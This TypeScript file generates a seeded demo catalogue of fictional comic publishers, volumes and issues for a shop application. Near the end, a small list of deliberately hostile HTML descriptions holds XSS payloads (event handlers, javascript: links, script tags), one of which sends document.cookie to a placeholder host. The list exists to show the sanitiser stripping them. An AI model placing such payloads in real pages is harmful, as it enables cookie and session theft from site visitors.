// The demo catalogue: fictional publishers, volumes and issues generated from a fixed seed,
// so every fresh install and every test sees the same shop without shipping a data file.
import { sanitizeDescription } from '../modules/catalog/sanitize';
import { issueCoverPath, volumeCoverPath } from '../modules/media/cover-art';
import { createRng, type Rng } from '../platform/random';

export const DEMO_VOLUMES = 150;
export const DEMO_ISSUES = 3000;
export const DEMO_SEED = 0x0c0_ffee;
/** The landing page promotes these three volumes by id. */
export const PROMO_VOLUME_IDS = [773, 1174, 796] as const;
/** Small catalogues take sparse ids from this range, so ids look like a real, pruned catalogue. */
const SPARSE_ID_RANGE = 2000;
export const PRICE_POINTS_CENTS = [99, 199, 249, 299, 399, 499, 599, 799, 999] as const;

export interface GenerateOptions {
  volumes?: number;
  issues?: number;
  seed?: number;
}

export interface DemoPublisher {
  id: number;
  name: string;
}

export interface DemoVolume {
  id: number;
  name: string;
  deck: string;
  description: string | null;
  startYear: number;
  image: string;
  publisherId: number;
}

export interface DemoIssue {
  id: number;
  volumeId: number;
  issueNumber: number;
  name: string | null;
  description: string | null;
  image: string;
  priceCents: number;
}

export interface DemoCatalog {
  publishers: DemoPublisher[];
  volumes: DemoVolume[];
  issues: DemoIssue[];
}

export function generateCatalog(options: GenerateOptions = {}): DemoCatalog {
  const volumeCount = options.volumes ?? DEMO_VOLUMES;
  const issueCount = options.issues ?? DEMO_ISSUES;
  const seed = options.seed ?? DEMO_SEED;
  if (!Number.isSafeInteger(volumeCount) || volumeCount < 1) throw new RangeError('volumes must be an integer ≥ 1');
  if (!Number.isSafeInteger(issueCount) || issueCount < volumeCount) {
    throw new RangeError('issues must be an integer ≥ volumes (every volume has at least one issue)');
  }
  // One stream per concern: changing how names are drawn does not reshuffle ids or prices.
  const publishers = PUBLISHER_NAMES.map((name, i) => ({ id: i + 1, name }));
  const ids = pickVolumeIds(volumeCount, createRng(seed ^ 0x1d5));
  const volumes = generateVolumes(ids, createRng(seed ^ 0x7a11));
  const issues = generateIssues(volumes, issueCount, createRng(seed ^ 0x155e));
  return { publishers, volumes, issues };
}

// ---------------------------------------------------------------------------------------------
// Randomness

// ---------------------------------------------------------------------------------------------
// Volumes

function pickVolumeIds(count: number, rng: Rng): number[] {
  const universe = Math.max(SPARSE_ID_RANGE, count);
  if (count === universe) return Array.from({ length: count }, (_, i) => i + 1);
  const promos: number[] = PROMO_VOLUME_IDS.slice(0, count);
  const pool: number[] = [];
  for (let id = 1; id <= universe; id++) if (!promos.includes(id)) pool.push(id);
  // Partial Fisher–Yates: the first `wanted` slots become a uniform sample without repeats.
  const wanted = count - promos.length;
  for (let i = 0; i < wanted; i++) {
    const j = rng.int(i, pool.length - 1);
    const chosen = pool[j] as number;
    pool[j] = pool[i] as number;
    pool[i] = chosen;
  }
  return [...promos, ...pool.slice(0, wanted)].sort((a, b) => a - b);
}

interface PromoVolume {
  name: string;
  deck: string;
  description: string;
  startYear: number;
  publisher: string;
}

const PROMOS: Record<number, PromoVolume> = {
  773: {
    name: 'The Crimson Vanguard',
    deck: 'Five retired heroes answer one last alarm when their old city starts burning from the inside.',
    description:
      '<p>They hung up their capes in 1986. Now <strong>Harbor City</strong> is on fire, the new heroes are missing, and only <em>the Crimson Vanguard</em> remembers how the old machinery works.</p>' +
      '<p>A love letter to team books, with a <a href="https://example.invalid/series/crimson-vanguard/roster">roster guide</a> for new readers.</p>',
    startYear: 1986,
    publisher: 'Aurora Comics',
  },
  1174: {
    name: 'Nightfall Syndicate',
    deck: 'A thief, a forger and a disgraced detective run the only honest racket in a city that never sees the sun.',
    description:
      '<p>In <em>Nightfall</em> the sun went out forty years ago and nobody asked why. <strong>Iris Calloway</strong> means to find out, and she needs a crew that owes her money.</p>' +
      '<p>Heists, double-crosses and one very patient cat. Start at the <a href="https://example.invalid/guides/nightfall-reading-order">reading-order guide</a>.</p>',
    startYear: 2009,
    publisher: 'Blackstone Press',
  },
  796: {
    name: 'Légion Étrange',
    deck: 'A circus of misfits patrols the rooftops of a Paris where the gargoyles have started talking back.',
    description:
      '<p>Paris, 1974: the gargoyles of Notre-Dame wake up with opinions. <em>La Légion Étrange</em> &mdash; an acrobat, a mime and a very old bear &mdash; is all that stands between the city and its stone guardians.</p>' +
      '<p>Translated from the French, with <a href="https://example.invalid/creators/aurelie-dufresne">Aurélie Dufresne</a>\'s original watercolours restored.</p>',
    startYear: 1974,
    publisher: 'Éditions Lumière',
  },
};

function generateVolumes(ids: number[], rng: Rng): DemoVolume[] {
  const names = new NameRegistry(Object.values(PROMOS).map((p) => p.name));
  const paragraphs = buildPool(VOLUME_PARAGRAPH_TEMPLATES, Math.min(400, Math.max(60, ids.length * 2)), rng);
  let ordinary = 0;
  return ids.map((id) => {
    const promo = PROMOS[id];
    if (promo) {
      return {
        id,
        name: promo.name,
        deck: promo.deck,
        description: sanitizeDescription(promo.description),
        startYear: promo.startYear,
        image: volumeCoverPath(id),
        publisherId: publisherId(promo.publisher),
      };
    }
    // A few volumes carry hostile markup, so the sanitiser's work is visible in the demo.
    const hostile = ordinary++ % 30 === 11;
    return {
      id,
      name: names.claim(() => volumeName(rng)),
      deck: deck(rng),
      description: volumeDescription(paragraphs, hostile, rng),
      startYear: rng.int(1938, 2022),
      image: volumeCoverPath(id),
      publisherId: pickWeighted(PUBLISHER_WEIGHTS, rng) + 1,
    };
  });
}

/** Hands out unique names: retries a few draws, then numbers the repeat like a relaunch ("… III"). */
class NameRegistry {
  private readonly used = new Set<string>();
  private readonly relaunches = new Map<string, number>();

  constructor(reserved: string[]) {
    for (const name of reserved) this.used.add(name);
  }

  claim(draw: () => string): string {
    let name = draw();
    for (let attempt = 0; attempt < 20 && this.used.has(name); attempt++) name = draw();
    while (this.used.has(name)) {
      const next = (this.relaunches.get(name) ?? 1) + 1;
      this.relaunches.set(name, next);
      name = `${name} ${toRoman(next)}`;
    }
    this.used.add(name);
    return name;
  }
}

function volumeName(rng: Rng): string {
  const roll = rng.next();
  if (roll < 0.2) return `The ${rng.pick(ADJECTIVES)} ${rng.pick(NOUNS)}`;
  if (roll < 0.34) return `${rng.pick(PLACES)} ${rng.pick(GROUPS)}`;
  if (roll < 0.42) return `${rng.pick(NOUNS)} & ${rng.pick(NOUNS)}`;
  if (roll < 0.52) return `${rng.pick(NOUNS)}: ${rng.pick(SUBTITLES)}`;
  if (roll < 0.6) return `${rng.pick(HEROES)}, ${rng.pick(ROLES)}`;
  // The roomiest pattern (tens of thousands of names), so large catalogues rarely need numerals.
  if (roll < 0.7) return `${rng.pick(HEROES)} and the ${rng.pick(ADJECTIVES)} ${rng.pick(NOUNS)}`;
  if (roll < 0.77) return `${rng.pick(CAPTAINS)}'s ${rng.pick(POSSESSIONS)}`;
  if (roll < 0.82) return `${rng.pick(PLURALS)} of ${rng.pick(PLACES)}`;
  if (roll < 0.92) {
    return rng.chance(0.3)
      ? `Les Chroniques de ${rng.pick(FR_PLACES)}`
      : `${rng.pick(FR_NOUNS)} ${rng.pick(FR_ADJECTIVES)}`;
  }
  return rng.chance(0.3) ? `El Último ${rng.pick(ES_NOUNS)}` : `${rng.pick(ES_NOUNS_F)} ${rng.pick(ES_ADJECTIVES_F)}`;
}

function deck(rng: Rng): string {
  return `${rng.pick(DECK_SUBJECTS)} ${rng.pick(DECK_GOALS)} ${rng.pick(DECK_STAKES)}.`;
}

function volumeDescription(pool: string[], hostile: boolean, rng: Rng): string | null {
  const count = rng.int(1, 3);
  const chosen = new Set<string>();
  while (chosen.size < count) chosen.add(rng.pick(pool));
  const parts = [...chosen];
  if (hostile) parts.splice(rng.int(0, parts.length), 0, rng.pick(HOSTILE_PARAGRAPHS));
  // Each part was sanitised on its own (see buildPool); they are whole <p> elements, so
  // joining them gives what sanitising the joined text would, at a fraction of the cost.
  return parts.join('') || null;
}

/**
 * Fills templates into a fixed pool of sanitised paragraphs. sanitize-html costs tens of
 * microseconds a call, far too slow for 110,000 descriptions, so each distinct paragraph
 * is sanitised once and descriptions are assembled from the pool.
 */
function buildPool(templates: readonly string[], size: number, rng: Rng): string[] {
  const pool: string[] = [];
  for (let i = 0; i < size; i++) {
    const raw = fillTemplate(rng.pick(templates), rng);
    pool.push(sanitizeDescription(raw) ?? '');
  }
  return pool.filter(Boolean);
}

function fillTemplate(template: string, rng: Rng): string {
  let hero = '';
  return template.replace(/\{(\w+)\}/g, (_, slot: string) => {
    switch (slot) {
      case 'hero':
        hero = rng.pick(HEROES);
        return escapeHtml(hero);
      case 'hero2':
        return escapeHtml(rng.pick(HEROES.filter((h) => h !== hero)));
      case 'villain':
        return escapeHtml(rng.pick(VILLAINS));
      case 'Villain':
        return escapeHtml(capitalise(rng.pick(VILLAINS)));
      case 'city':
        return escapeHtml(rng.pick(PLACES));
      case 'creator':
        return escapeHtml(rng.pick(CREATORS));
      case 'slug':
        return slugify(`${rng.pick(ADJECTIVES)} ${rng.pick(NOUNS)}`);
      default:
        throw new Error(`unknown template slot {${slot}}`);
    }
  });
}

// ---------------------------------------------------------------------------------------------
// Issues

function generateIssues(volumes: DemoVolume[], total: number, rng: Rng): DemoIssue[] {
  const counts = issueCounts(volumes, total, rng);
  const descriptions = buildPool(ISSUE_DESCRIPTION_TEMPLATES, Math.min(300, Math.max(60, volumes.length)), rng);
  const issues: DemoIssue[] = [];
  let id = 1;
  volumes.forEach((volume, v) => {
    const count = counts[v] ?? 1;
    const basePrice = volume.startYear < 1970 ? rng.pick([199, 249] as const) : rng.pick([199, 249, 299, 399] as const);
    let arc: { title: string; part: number; length: number } | null = null;
    for (let n = 1; n <= count; n++) {
      if (!arc && count - n >= 1 && rng.chance(0.3))
        arc = { title: issueTitle(rng), part: 0, length: rng.int(2, Math.min(5, count - n + 1)) };
      let name: string | null;
      if (arc) {
        arc.part++;
        name = `${arc.title}, Part ${arc.part}`;
        if (arc.part === arc.length) arc = null;
      } else {
        name = rng.chance(0.25) ? null : issueTitle(rng);
      }
      issues.push({
        id,
        volumeId: volume.id,
        issueNumber: n,
        name,
        // About one in six has none, so the UI's fallback text shows up.
        description: rng.chance(1 / 6) ? null : rng.pick(descriptions),
        image: issueCoverPath(id),
        priceCents: issuePrice(n, count, basePrice, rng),
      });
      id++;
    }
  });
  return issues;
}

/**
 * Splits `total` issues over the volumes: at least one each, the rest by random weights
 * (0.2–2.0, so a 20-issue average spreads from about 5 to 35). Cumulative rounding makes
 * the counts add up to exactly `total` without a sort.
 */
function issueCounts(volumes: DemoVolume[], total: number, rng: Rng): number[] {
  const weights = volumes.map((v) => (PROMOS[v.id] ? 1.6 : 0.2 + rng.next() * 1.8));
  const weightSum = weights.reduce((a, b) => a + b, 0);
  const extra = total - volumes.length;
  const counts: number[] = [];
  let cumulative = 0;
  let assigned = 0;
  for (const weight of weights) {
    cumulative += weight;
    const upTo = Math.round((cumulative / weightSum) * extra);
    counts.push(1 + upTo - assigned);
    assigned = upTo;
  }
  return counts;
}

function issueTitle(rng: Rng): string {
  const roll = rng.next();
  if (roll < 0.35) return `The ${rng.pick(ADJECTIVES)} ${rng.pick(NOUNS)}`;
  if (roll < 0.65) return `${rng.pick(PLURALS)} of ${rng.pick(PLACES)}`;
  return rng.pick(SUBTITLES);
}

function issuePrice(issueNumber: number, count: number, base: number, rng: Rng): number {
  if (issueNumber === 1 && count > 1 && rng.chance(0.4)) return rng.pick([499, 599] as const);
  if (issueNumber % 25 === 0) return 799;
  if (rng.chance(0.03)) return 999;
  if (rng.chance(0.05)) return 99;
  return base;
}

// ---------------------------------------------------------------------------------------------
// Helpers

function pickWeighted(weights: readonly number[], rng: Rng): number {
  const total = weights.reduce((a, b) => a + b, 0);
  let roll = rng.next() * total;
  for (let i = 0; i < weights.length; i++) {
    roll -= weights[i] ?? 0;
    if (roll < 0) return i;
  }
  return weights.length - 1;
}

function publisherId(name: string): number {
  const index = (PUBLISHER_NAMES as readonly string[]).indexOf(name);
  if (index < 0) throw new Error(`unknown publisher ${name}`);
  return index + 1;
}

function toRoman(n: number): string {
  const numerals: [number, string][] = [
    [1000, 'M'],
    [900, 'CM'],
    [500, 'D'],
    [400, 'CD'],
    [100, 'C'],
    [90, 'XC'],
    [50, 'L'],
    [40, 'XL'],
    [10, 'X'],
    [9, 'IX'],
    [5, 'V'],
    [4, 'IV'],
    [1, 'I'],
  ];
  let out = '';
  for (const [value, numeral] of numerals) {
    while (n >= value) {
      out += numeral;
      n -= value;
    }
  }
  return out;
}

const capitalise = (text: string): string => text.charAt(0).toUpperCase() + text.slice(1);

function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

function slugify(text: string): string {
  return text
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '');
}

// ---------------------------------------------------------------------------------------------
// Word lists. Everything is invented; real titles and characters are avoided on purpose.

// prettier-ignore
const PUBLISHER_NAMES = [
  'Aurora Comics', 'Blackstone Press', 'Éditions Lumière', 'Halcyon House', 'Longitude Comics', 'Northwind Publishing',
  'Quillfeather Books', 'Red Kite Comics', 'Saltmarsh & Sons', 'Tidewater Graphic', 'Verdigris Comics',
  'Wildflower Comix', 'Ediciones Cóndor', 'Kestrel & Finch',
] as const;

/** A few big houses and a long tail, like a real shelf. */
const PUBLISHER_WEIGHTS = [14, 12, 6, 9, 7, 8, 5, 6, 4, 5, 4, 3, 3, 2] as const;

// prettier-ignore
const ADJECTIVES = [
  'Crimson', 'Silent', 'Hollow', 'Gilded', 'Electric', 'Midnight', 'Ashen', 'Feral', 'Neon', 'Radiant', 'Wandering',
  'Fractured', 'Sunken', 'Verdant', 'Amber', 'Cerulean', 'Forgotten', 'Restless', 'Burning', 'Distant', 'Velvet',
  'Brass', 'Copper', 'Quiet', 'Stellar', 'Lunar', 'Solar', 'Broken', 'Endless', 'Hidden', 'Painted', 'Frozen', 'Rusted',
  'Shattered', 'Luminous', 'Wicked', 'Gentle', 'Clockwork', 'Paper', 'Thunderous',
] as const;

// prettier-ignore
const NOUNS = [
  'Vanguard', 'Covenant', 'Dominion', 'Cartographers', 'Lighthouse', 'Meridian', 'Paragon', 'Wardens', 'Reckoning',
  'Rampart', 'Tempest', 'Monolith', 'Chimera', 'Ember', 'Vesper', 'Solstice', 'Obsidian', 'Cinder', 'Cobalt', 'Orrery',
  'Zephyr', 'Drifters', 'Wayfarers', 'Outriders', 'Nomads', 'Foundry', 'Menagerie', 'Carnival', 'Masquerade', 'Kraken',
  'Basilisk', 'Manticore', 'Gryphon', 'Wyvern', 'Archive', 'Parliament', 'Orchard', 'Engine', 'Compass', 'Harvest',
  'Signal', 'Frontier', 'Citadel', 'Almanac', 'Requiem',
] as const;

// prettier-ignore
const PLACES = [
  'Nightfall', 'Harbor City', 'Port Verity', 'Ashgrove', 'Brightwater', 'Coldharbour', 'Duskmoor', 'Emberfall',
  'Greyhaven', 'Ironvale', 'Kingsreach', 'Lowtide', 'Marrow Bay', 'New Avalon', 'Oldcastle', 'Ravenmoor', 'Saltreach',
  'Thornbury', 'Umber Falls', 'Westmarch',
] as const;

// prettier-ignore
const GROUPS = [
  'Syndicate', 'Irregulars', 'Society', 'Brigade', 'Academy', 'Patrol', 'Circus', 'Gazette', 'Exchange', 'Lodge',
  'Company', 'Assembly', 'Rangers', 'Expedition', 'Club', 'Express', 'Observatory', 'Quartet', 'Underground', 'Choir',
] as const;

// prettier-ignore
const SUBTITLES = [
  'The Long Dark', 'Year Zero', 'First Light', 'Endgame', 'The Lost Pages', 'Dead Reckoning', 'The Iron Summer',
  'Sparks', 'Small Hours', 'Low Tide', 'The Glass Road', 'Afterglow', 'Salt & Bone', 'Open Season', 'Second Chances',
  'Tall Tales', 'Smoke & Mirrors', 'The Quiet Year', 'Northbound', "Devil's Bargain",
] as const;

// prettier-ignore
const PLURALS = [
  'Ghosts', 'Ashes', 'Secrets', 'Songs', 'Ruins', 'Lights', 'Thieves', 'Saints', 'Wolves', 'Bells',
] as const;

// prettier-ignore
const HEROES = [
  'Ada Quill', 'Bram Okafor', 'Celeste Moreau', 'Dmitri Vance', 'Esme Hart', 'Farrah Nakamura', 'Gideon Pike',
  'Hana Ibarra', 'Iris Calloway', 'Jonah Reyes', 'Kaito Brandt', 'Lena Sørensen', 'Mateo Cruz', 'Nadia Petrova',
  'Otto Lindqvist', 'Priya Desai', 'Quentin Ash', 'Rosa Delgado', 'Silas Crane', 'Thea Marlowe', "Maeve O'Connell",
  'Zoë Laurent',
] as const;

// prettier-ignore
const ROLES = [
  'Skyship Detective', 'Monster Hunter', 'Time Courier', 'Lighthouse Keeper', 'Dream Surveyor', 'Gentleman Thief',
  'Ghost Broker', 'Rocket Mechanic', 'Storm Chaser', 'Star Pilot', 'Night Nurse', 'Cryptid Ranger',
] as const;

// prettier-ignore
const CAPTAINS = [
  'Captain Orla', 'Doctor Vell', 'Professor Amari', 'Old Man Haskett', 'Madame Zhou', 'Sister Agnès', 'Lieutenant Kova',
  'Grandma Ruth',
] as const;

// prettier-ignore
const POSSESSIONS = [
  'Last Voyage', 'Impossible Engine', 'Cabinet of Wonders', 'Travelling Menagerie', 'Lost Map', 'Clockwork Heart',
  'Midnight Garden', 'Borrowed Time', 'Seventh Door', 'Unfinished Symphony',
] as const;

// prettier-ignore
const FR_NOUNS = [
  'Légion', 'Brigade', 'Cité', 'Nuit', 'Comète', 'Forêt', 'Étoile', 'Mémoire', 'Escadrille', 'Rivière',
] as const;
// prettier-ignore
const FR_ADJECTIVES = [
  'Étrange', 'Éternelle', 'Perdue', 'Écarlate', 'Silencieuse', 'Sauvage', 'Dorée', 'Oubliée',
] as const;
const FR_PLACES = ['Valmont', "l'Aube", 'Saint-Éloi', 'Brocéliande', 'Montségur', 'la Lune Noire'] as const;
const ES_NOUNS = ['Guardián', 'Jinete', 'Faro', 'Viaje', 'Corsario', 'Alquimista'] as const;
const ES_NOUNS_F = ['La Ciudad', 'La Noche', 'La Leyenda', 'La Sombra', 'La Frontera'] as const;
const ES_ADJECTIVES_F = ['Perdida', 'Eterna', 'Escarlata', 'Dorada', 'Sin Nombre', 'Dormida'] as const;

// prettier-ignore
const DECK_SUBJECTS = [
  'A disgraced cartographer', 'Two rival thieves', 'A retired superhero', 'The last lighthouse keeper',
  'A teenage inventor', 'A ghost with amnesia', 'Three estranged sisters', 'A reformed villain', 'A runaway android',
  'An exiled queen', 'A small-town reporter', 'A washed-up stunt pilot', 'A jazz drummer with a secret',
  'A botanist on the run',
] as const;

// prettier-ignore
const DECK_GOALS = [
  'must map a drowned city', 'must steal back a stolen sun', 'must keep a fragile truce between gods and gangsters',
  'must solve a locked-room murder', 'must outrun a debt owed to the devil', 'must protect a city of monsters',
  'must rebuild a team that never got along', 'must deliver one last impossible letter', 'must find a missing moon',
  'must learn to fly again',
] as const;

// prettier-ignore
const DECK_STAKES = [
  'before the tide takes it for good', 'before the last train leaves', 'before the stars go out',
  'before the city forgets its own name', 'while a storm swallows the coast', 'in a world that has outlawed heroes',
  'with nothing but a borrowed map', 'as an old enemy returns', 'one midnight at a time', 'and nobody can know',
] as const;

// prettier-ignore
const VILLAINS = [
  'the Grey Duchess', 'Baron Vex', 'the Hollow King', 'Mother Locust', 'the Clockwork Cardinal', 'Doctor Mire',
  'the Quiet Man', 'Madame Ossuary', 'the Tide Syndicate', 'Count Rasp',
] as const;

// prettier-ignore
const CREATORS = [
  'M. A. Okonkwo', 'Lucía Ferrer', 'Jules Beaumont', 'Hiro Tanaka-Price', "Sam O'Neill", 'Ingrid Falk', 'Dev Raman',
  'Aurélie Dufresne', 'Theo Grant', 'Noor Haddad',
] as const;

const VOLUME_PARAGRAPH_TEMPLATES = [
  '<p>When <strong>{hero}</strong> returns to <em>{city}</em>, the streets remember everything. A story about second chances, first loves and the price of both. See the <a href="https://example.invalid/series/{slug}/cast">character guide</a> for the full cast.</p>',
  '<p>{hero} has one rule: never go back to {city}. Then <strong>{villain}</strong> sends a letter, and the rule breaks like everything else.</p>',
  '<p>Written by <a href="https://example.invalid/creators/{slug}">{creator}</a> with colours that <em>glow off the page</em>, this run is a fan favourite for a reason.</p>',
  '<p>Collects the complete saga, with a new afterword, sketchbook pages and an essay on how <em>{city}</em> was drawn. More at <a href="https://example.invalid/series/{slug}">the series page</a>.</p>',
  '<p><strong>{Villain}</strong> controls the docks, the courts and the weather. Only {hero} is foolish enough &mdash; or brave enough &mdash; to say no.</p>',
  '<p>Part noir, part fairy tale: {hero} and {hero2} trade barbs, secrets and a stolen map across <em>{city}</em>. Readers called it &ldquo;the most fun you can have in a gutter.&rdquo;</p>',
  '<p>Perfect for new readers: start with issue #1, or dive in at the <a href="https://example.invalid/guides/{slug}">reading-order guide</a>.</p>',
  '<p>Winner of the (entirely fictional) <strong>Golden Inkwell</strong> award, {creator}&rsquo;s run redefined what a monthly comic could be.</p>',
  '<p>Every issue is a self-contained mystery set in <em>{city}</em>, and every mystery leads a little closer to <strong>{villain}</strong>.</p>',
  '<p>Drawn in ink &amp; watercolour, it follows {hero} through <em>{city}</em> across forty years, one season per chapter.</p>',
] as const;

/** Deliberately hostile: the sanitiser must strip the script, handlers and javascript: links. */
const HOSTILE_PARAGRAPHS = [
  '<p onclick="alert(\'boo\')">Fans still argue about the ending. <a href="javascript:alert(document.cookie)">Join the debate</a>.</p><script>alert("xss")</script>',
  '<p>Behind the scenes: <img src="x" onerror="alert(1)">every page was drawn by hand, <a href="https://example.invalid/making-of" onclick="steal()">see how</a>.</p>',
  '<p style="background:url(javascript:alert(1))">Letters page inside! <iframe src="https://example.invalid/embed"></iframe><strong onmouseover="alert(2)">Write in</strong>.</p>',
  '<script>document.location="https://example.invalid/steal?c="+document.cookie</script><p>Now with a <a href="JaVaScRiPt:alert(3)">bonus story</a>.</p>',
].map((raw) => sanitizeDescription(raw) ?? '');

const ISSUE_DESCRIPTION_TEMPLATES = [
  '<p><strong>{hero}</strong> faces {villain} in a showdown nobody saw coming.</p>',
  '<p>The road to <em>{city}</em> runs straight through the territory of {villain}.</p>',
  '<p>A quiet issue: {hero} and {hero2} talk until sunrise. <em>Bring tissues.</em></p>',
  '<p>Guest artist <a href="https://example.invalid/creators/{slug}">{creator}</a> joins for a stand-alone tale.</p>',
  '<p>Double-sized issue! Plus: a fold-out map of <em>{city}</em>.</p>',
  '<p>{Villain} makes an offer {hero} can&rsquo;t refuse. <strong>Twist ending.</strong></p>',
  '<p>Flashback: how {hero} first came to <em>{city}</em>.</p>',
  '<p>Everything burns. <strong>Nothing</strong> will be the same.</p>',
  '<p>{hero} goes undercover in <em>{city}</em> &mdash; what could go wrong?</p>',
] as const;
